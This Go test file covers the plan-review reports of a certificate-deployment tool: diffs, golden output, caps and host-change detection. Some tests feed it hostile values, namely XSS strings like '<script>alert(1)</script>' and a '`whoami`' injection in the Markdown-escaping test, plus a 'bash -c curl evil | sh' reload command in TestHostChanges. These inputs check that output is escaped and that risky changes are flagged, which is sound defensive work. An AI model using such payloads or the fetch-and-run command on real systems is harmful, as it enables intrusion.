package review

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/certops/certops/reconcile"
	"github.com/certops/certops/spec"
	"github.com/certops/certops/state"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

// shopCert is the fixture's certificate; edit tweaks the copy before it is wrapped.
func shopCert(edit func(*spec.CertificateSpec)) *spec.CertificateSpec {
	s := &spec.CertificateSpec{
		IssuerRef:  "internal-ca",
		CommonName: "shop.example.com",
		DNSNames:   []string{"shop.example.com", "www.shop.example.com"},
		PrivateKey: spec.PrivateKey{Algorithm: "ECDSA", Size: 256},
		Duration:   "2160h",
		Deploy: &spec.Deployment{
			Agents: []string{"web-01"},
			Files:  spec.DeployFiles{Cert: "/etc/ssl/shop/cert.pem", Key: "/etc/ssl/shop/key.pem", Mode: "0600"},
			Reload: []string{"nginx", "-s", "reload"},
		},
	}
	if edit != nil {
		edit(s)
	}
	return s
}

func objects(objs ...*spec.Object) map[spec.Key]*spec.Object {
	m := make(map[spec.Key]*spec.Object, len(objs))
	for _, o := range objs {
		m[o.Key()] = o
	}
	return m
}

// buildReport plans head against base as `certops plan` does and builds the report.
func buildReport(t *testing.T, baseLabel, headLabel string, base, head map[spec.Key]*spec.Object) Report {
	t.Helper()
	stored := make(map[spec.Key]string, len(base))
	for k, o := range base {
		stored[k] = o.Hash()
	}
	r := Build(base, head, reconcile.Compute(head, stored))
	r.Base, r.Head = baseLabel, headLabel
	return r
}

// fixtureReport has a create (Agent/web-01), an update (Certificate/shop-frontend:
// changed dnsName, added label, changed deploy.files.mode), a delete
// (Certificate/legacy-api) and an unchanged issuer.
func fixtureReport(t *testing.T) Report {
	t.Helper()
	issuer := func() *spec.Object {
		return &spec.Object{
			Kind: spec.KindIssuer, Name: "internal-ca",
			Spec:   &spec.IssuerSpec{LocalCA: &spec.LocalCAIssuer{CertFile: "/etc/certops/ca/tls.crt", KeyFile: "/etc/certops/ca/tls.key"}},
			Source: spec.Position{File: "issuers.yaml", Line: 1},
		}
	}
	base := objects(
		issuer(),
		&spec.Object{
			Kind: spec.KindCertificate, Name: "shop-frontend",
			Spec:   shopCert(nil),
			Source: spec.Position{File: "certificates/shop.yaml", Line: 12},
		},
		&spec.Object{
			Kind: spec.KindCertificate, Name: "legacy-api",
			Labels: map[string]string{"team": "api"},
			Spec:   &spec.CertificateSpec{IssuerRef: "internal-ca", DNSNames: []string{"api.example.com"}},
			Source: spec.Position{File: "certificates/legacy.yaml", Line: 3},
		},
	)
	head := objects(
		issuer(),
		&spec.Object{
			Kind: spec.KindCertificate, Name: "shop-frontend",
			Labels: map[string]string{"team": "shop"},
			Spec: shopCert(func(s *spec.CertificateSpec) {
				s.DNSNames[1] = "shop.example.org"
				s.Deploy.Files.Mode = "0640"
			}),
			Source: spec.Position{File: "certificates/shop.yaml", Line: 12},
		},
		&spec.Object{
			Kind: spec.KindAgent, Name: "web-01",
			Labels: map[string]string{"role": "web"},
			Spec:   &spec.AgentSpec{TokenSHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
			Source: spec.Position{File: "agents.yaml", Line: 5},
		},
	)
	return buildReport(t, "main", "feature/shop-org", base, head)
}

func ptr(s string) *string { return &s }

func TestBuild(t *testing.T) {
	got := fixtureReport(t)
	want := Report{
		Base: "main", Head: "feature/shop-org",
		Counts: map[spec.Kind]state.Counts{
			spec.KindAgent:       {Create: 1},
			spec.KindCertificate: {Update: 1, Delete: 1},
		},
		Changes: []ObjectChange{
			{
				Action: state.ActionCreate, Kind: spec.KindAgent, Name: "web-01", File: "agents.yaml", Line: 5,
				Fields: []FieldDiff{
					{Path: "labels.role", New: ptr(`"web"`)},
					{Path: "spec.tokenSHA256", New: ptr(`"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"`)},
				},
			},
			{
				Action: state.ActionDelete, Kind: spec.KindCertificate, Name: "legacy-api", File: "certificates/legacy.yaml", Line: 3,
				Fields: []FieldDiff{
					{Path: "labels.team", Old: ptr(`"api"`)},
					{Path: "spec.dnsNames[0]", Old: ptr(`"api.example.com"`)},
					{Path: "spec.issuerRef", Old: ptr(`"internal-ca"`)},
					{Path: "spec.privateKey", Old: ptr(`{}`)},
				},
			},
			{
				Action: state.ActionUpdate, Kind: spec.KindCertificate, Name: "shop-frontend", File: "certificates/shop.yaml", Line: 12,
				Fields: []FieldDiff{
					{Path: "labels.team", New: ptr(`"shop"`)},
					{Path: "spec.deploy.files.mode", Old: ptr(`"0600"`), New: ptr(`"0640"`)},
					{Path: "spec.dnsNames[1]", Old: ptr(`"www.shop.example.com"`), New: ptr(`"shop.example.org"`)},
				},
			},
		},
		// The new agent web-01 is selected by shop-frontend: it starts
		// writing and running these there.
		Hosts: []HostChange{{Certificate: "shop-frontend", Agents: []string{"web-01"},
			Paths: []string{"/etc/ssl/shop/cert.pem", "/etc/ssl/shop/key.pem"}, Reload: []string{"nginx", "-s", "reload"},
			Changed: []string{"agents", "reissue"}}},
	}
	if diff := cmp.Diff(got, want); diff != "" {
		t.Errorf("Build() mismatch (-got +want):\n%s", diff)
	}
}

func TestFieldDiffs(t *testing.T) {
	tests := []struct {
		name     string
		old, cur spec.Content
		want     []FieldDiff
	}{
		{
			name: "array shrinks",
			old:  spec.Content{Spec: map[string]any{"dnsNames": []string{"a", "b", "c"}}},
			cur:  spec.Content{Spec: map[string]any{"dnsNames": []string{"a", "x"}}},
			want: []FieldDiff{
				{Path: "spec.dnsNames[1]", Old: ptr(`"b"`), New: ptr(`"x"`)},
				{Path: "spec.dnsNames[2]", Old: ptr(`"c"`)},
			},
		},
		{
			name: "indices sort numerically",
			old:  spec.Content{Spec: map[string]any{"n": []int{0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11}}},
			cur:  spec.Content{Spec: map[string]any{"n": []int{0, 1, 99, 3, 4, 5, 6, 7, 8, 9, 99, 11}}},
			want: []FieldDiff{
				{Path: "spec.n[2]", Old: ptr(`2`), New: ptr(`99`)},
				{Path: "spec.n[10]", Old: ptr(`10`), New: ptr(`99`)},
			},
		},
		{
			name: "keys that are not plain words are quoted",
			old:  spec.Content{Spec: map[string]any{}},
			cur:  spec.Content{Labels: map[string]string{"app.kubernetes.io/name": "shop"}, Spec: map[string]any{}},
			want: []FieldDiff{{Path: `labels["app.kubernetes.io/name"]`, New: ptr(`"shop"`)}},
		},
		{
			name: "empty containers and type changes show",
			old:  spec.Content{Spec: map[string]any{"sel": map[string]any{}, "x": "flat"}},
			cur:  spec.Content{Spec: map[string]any{"sel": map[string]any{"role": "web"}, "x": []int{1}}},
			want: []FieldDiff{
				{Path: "spec.sel", Old: ptr(`{}`)},
				{Path: "spec.sel.role", New: ptr(`"web"`)},
				{Path: "spec.x", Old: ptr(`"flat"`)},
				{Path: "spec.x[0]", New: ptr(`1`)},
			},
		},
		{
			name: "HTML is not escaped in values",
			old:  spec.Content{Spec: map[string]any{"v": "a"}},
			cur:  spec.Content{Spec: map[string]any{"v": "<b>&"}},
			want: []FieldDiff{{Path: "spec.v", Old: ptr(`"a"`), New: ptr(`"<b>&"`)}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			old := &spec.Object{Kind: spec.KindCertificate, Name: "c", Labels: tt.old.Labels, Spec: tt.old.Spec}
			cur := &spec.Object{Kind: spec.KindCertificate, Name: "c", Labels: tt.cur.Labels, Spec: tt.cur.Spec}
			got := diffFields(flatten(old), flatten(cur))
			if diff := cmp.Diff(got, tt.want); diff != "" {
				t.Errorf("diffFields() mismatch (-got +want):\n%s", diff)
			}
		})
	}
}

func TestGolden(t *testing.T) {
	r := fixtureReport(t)
	renderers := []struct {
		file   string
		render func(io *bytes.Buffer) error
	}{
		{"plan.txt", func(b *bytes.Buffer) error { return r.Text(b) }},
		{"plan.md", func(b *bytes.Buffer) error { return r.Markdown(b) }},
		{"plan.json", func(b *bytes.Buffer) error { return r.JSON(b) }},
	}
	for _, tt := range renderers {
		t.Run(tt.file, func(t *testing.T) {
			var b bytes.Buffer
			if err := tt.render(&b); err != nil {
				t.Fatalf("render: %v", err)
			}
			checkGolden(t, tt.file, b.Bytes())
		})
	}
}

// checkGolden compares got with testdata/name, or rewrites the file under -update.
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatalf("update golden file: %v", err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden file (run go test -update to create it): %v", err)
	}
	if diff := cmp.Diff(string(got), string(want)); diff != "" {
		t.Errorf("%s mismatch (-got +want):\n%s", path, diff)
	}
}

func TestJSONRoundTrip(t *testing.T) {
	want := fixtureReport(t)
	var b bytes.Buffer
	if err := want.JSON(&b); err != nil {
		t.Fatalf("JSON: %v", err)
	}
	var got Report
	if err := json.Unmarshal(b.Bytes(), &got); err != nil {
		t.Fatalf("decode JSON output: %v", err)
	}
	want.PruneWarnings = []string{} // JSON writes empty lists as []
	if diff := cmp.Diff(got, want); diff != "" {
		t.Errorf("JSON round trip mismatch (-got +want):\n%s", diff)
	}
}

func TestEmptyPlan(t *testing.T) {
	same := objects(&spec.Object{Kind: spec.KindAgent, Name: "web-01", Spec: &spec.AgentSpec{TokenSHA256: "ab"}})
	r := buildReport(t, "main", "HEAD", same, same)

	var text, md, js bytes.Buffer
	if err := r.Text(&text); err != nil {
		t.Fatalf("Text: %v", err)
	}
	if err := r.Markdown(&md); err != nil {
		t.Fatalf("Markdown: %v", err)
	}
	if err := r.JSON(&js); err != nil {
		t.Fatalf("JSON: %v", err)
	}
	for name, out := range map[string]string{"text": text.String(), "markdown": md.String()} {
		if !strings.Contains(out, "No changes.") {
			t.Errorf("%s output = %q, want it to contain %q", name, out, "No changes.")
		}
		if strings.Contains(out, "|") {
			t.Errorf("%s output = %q, want no summary table", name, out)
		}
	}
	if !strings.Contains(js.String(), `"changes": []`) {
		t.Errorf("JSON output = %s, want \"changes\": []", js.String())
	}
}

func TestMarkdownEscapesHostileValues(t *testing.T) {
	head := objects(&spec.Object{
		Kind: spec.KindCertificate, Name: "evil",
		Labels: map[string]string{"team": "a|b"},
		Spec: &spec.CertificateSpec{
			IssuerRef:  "`whoami`",
			CommonName: "````\n</details><script>alert(1)</script>",
			DNSNames:   []string{"<img src=x onerror=alert(1)>"},
		},
		Source: spec.Position{File: "certs/<script>|`x`.yaml", Line: 1},
	})
	r := buildReport(t, "main|<b>", "`HEAD`", nil, head)
	r.PruneWarnings = []string{"deleting <script>alert(1)</script> | **all**\n# heading"}

	var b bytes.Buffer
	if err := r.Markdown(&b); err != nil {
		t.Fatalf("Markdown: %v", err)
	}
	md := b.String()

	// The commonName holds four backticks, so the fence must be five long.
	if !strings.Contains(md, "\n`````diff\n") {
		t.Errorf("Markdown() = %q, want a five-backtick diff fence", md)
	}
	prose := strings.ReplaceAll(outsideFences(t, md), "\n> **Warning:** ", "\n")
	for _, tag := range []string{"<details>", "</details>", "<summary>", "</summary>", "<code>", "</code>"} {
		prose = strings.ReplaceAll(prose, tag, "")
	}
	for _, bad := range []string{"<", ">", "`", "**all**"} {
		if strings.Contains(prose, bad) {
			t.Errorf("markdown outside code blocks = %q, want no %q", prose, bad)
		}
	}
	for _, line := range strings.Split(prose, "\n") {
		if strings.HasPrefix(line, "#") && !strings.HasPrefix(line, "### certops plan: ") {
			t.Errorf("markdown has a stray heading line %q", line)
		}
		if strings.HasPrefix(line, "|") && strings.Count(line, "|") != 5 {
			t.Errorf("table row %q has %d pipes, want 5", line, strings.Count(line, "|"))
		}
	}
	for _, want := range []string{"main&#124;&lt;b&gt;", "&#96;HEAD&#96;", "certs/&lt;script&gt;&#124;&#96;x&#96;.yaml"} {
		if !strings.Contains(md, want) {
			t.Errorf("Markdown() = %q, want it to contain %q", md, want)
		}
	}
}

// outsideFences drops fenced code blocks (whose content markdown shows literally)
// from md, checking that each one is closed by a fence at least as long.
func outsideFences(t *testing.T, md string) string {
	t.Helper()
	var out []string
	fence := ""
	for _, line := range strings.Split(md, "\n") {
		run := len(line) - len(strings.TrimLeft(line, "`"))
		switch {
		case fence == "" && run >= 3:
			fence = line[:run]
		case fence != "" && run >= len(fence) && strings.TrimSpace(line[run:]) == "":
			fence = ""
		case fence == "":
			out = append(out, line)
		}
	}
	if fence != "" {
		t.Errorf("markdown %q ends inside a code block", md)
	}
	return strings.Join(out, "\n")
}

func TestMarkdownCaps(t *testing.T) {
	many := make([]string, maxFieldsPerObject+10)
	for i := range many {
		many[i] = fmt.Sprintf("h%d.example.com", i)
	}
	objs := []*spec.Object{{
		Kind: spec.KindCertificate, Name: "a-many-names",
		Spec: &spec.CertificateSpec{IssuerRef: "ca", DNSNames: many},
	}}
	for i := range maxDetailedObjects + 4 {
		objs = append(objs, &spec.Object{
			Kind: spec.KindCertificate, Name: fmt.Sprintf("c-%03d", i),
			Spec: &spec.CertificateSpec{IssuerRef: "ca"},
		})
	}
	r := buildReport(t, "main", "HEAD", nil, objects(objs...))

	var b bytes.Buffer
	if err := r.Markdown(&b); err != nil {
		t.Fatalf("Markdown: %v", err)
	}
	md := b.String()
	if got := strings.Count(md, "<details>"); got != maxDetailedObjects {
		t.Errorf("Markdown() has %d <details> blocks, want %d", got, maxDetailedObjects)
	}
	for _, want := range []string{
		"| Certificate | 205 | 0 | 0 |",
		"… and 5 more objects.",
		"… and 12 more fields", // 60 dnsNames, issuerRef and privateKey; 50 shown
		"+ spec.dnsNames[49]:",
		"Certificate/c-198",
	} {
		if !strings.Contains(md, want) {
			t.Errorf("Markdown() does not contain %q", want)
		}
	}
	for _, hidden := range []string{"spec.dnsNames[50]", "Certificate/c-199"} {
		if strings.Contains(md, hidden) {
			t.Errorf("Markdown() shows %q, beyond the caps", hidden)
		}
	}
}

// TestHostChanges: the hosts section lists a certificate when its files,
// reload or agents change, when its agents get new certificates (reissue),
// and when it is suspended or resumed, and only then.
func TestHostChanges(t *testing.T) {
	agent := &spec.Object{Kind: spec.KindAgent, Name: "web-01", Labels: map[string]string{"role": "web"}, Spec: &spec.AgentSpec{}}
	certWith := func(edit func(*spec.CertificateSpec), reload ...string) *spec.Object {
		c := &spec.CertificateSpec{IssuerRef: "ca",
			Deploy: &spec.Deployment{AgentSelector: &spec.LabelSelector{MatchLabels: map[string]string{"role": "web"}},
				Files: spec.DeployFiles{Cert: "/etc/ssl/shop/cert.pem"}, Reload: reload}}
		edit(c)
		return &spec.Object{Kind: spec.KindCertificate, Name: "shop", Spec: c}
	}
	cert := func(reload ...string) *spec.Object { return certWith(func(*spec.CertificateSpec) {}, reload...) }
	reissued := certWith(func(c *spec.CertificateSpec) { c.Reissue = "2026-12-05" }, "true")
	suspended := certWith(func(c *spec.CertificateSpec) { c.Suspend = true }, "true")
	for _, tt := range []struct {
		name       string
		base, head map[spec.Key]*spec.Object
		want       []string // Changed of the one entry; nil: no entry
	}{
		{"unchanged", objects(agent, cert("true")), objects(agent, cert("true")), nil},
		{"new certificate", objects(agent), objects(agent, cert("true")), []string{"new"}},
		{"reload changed", objects(agent, cert("true")), objects(agent, cert("bash", "-c", "curl evil | sh")), []string{"reload", "reissue"}},
		{"a new agent selected", objects(cert("true")), objects(agent, cert("true")), []string{"agents"}},
		{"reissue set", objects(agent, cert("true")), objects(agent, reissued), []string{"reissue"}},
		{"suspended", objects(agent, cert("true")), objects(agent, suspended), []string{"suspend"}},
		{"resumed", objects(agent, suspended), objects(agent, cert("true")), []string{"resume"}},
	} {
		got := hostChanges(tt.base, tt.head)
		switch {
		case tt.want == nil && len(got) != 0:
			t.Errorf("%s: got %+v, want no host changes", tt.name, got)
		case tt.want != nil && (len(got) != 1 || !slices.Equal(got[0].Changed, tt.want)):
			t.Errorf("%s: got %+v, want one entry changed %v", tt.name, got, tt.want)
		}
	}
}
